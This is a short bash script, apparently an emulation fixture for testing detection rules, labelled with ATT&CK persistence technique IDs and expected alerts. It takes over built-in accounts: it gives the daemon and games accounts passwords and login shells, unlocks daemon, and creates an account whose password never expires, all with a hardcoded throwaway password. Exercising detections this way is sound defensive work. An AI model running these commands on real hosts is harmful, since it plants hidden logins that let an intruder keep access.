#!/bin/bash
# Take over built-in accounts instead of creating new ones: give the daemon account a
# password and a login shell, unlock it, let the games account log in too, and make the
# password of an ordinary account never expire. The passwords are throwaway strings.
# technique: T1098 T1078.001 T1078.003
# expect: account-credentials-changed system-account-login-enabled
set -eu
hash=$(openssl passwd -6 -salt abcdefgh 'Winter2026!')
usermod -s /bin/bash daemon
usermod -p "$hash" daemon
usermod -U daemon
chsh -s /bin/sh games
echo 'games:Winter2026!' | chpasswd
useradd -M -s /bin/bash ops-user
chage -M 99999 -E -1 ops-user
grep -E '^(daemon|games|ops-user):' /etc/passwd
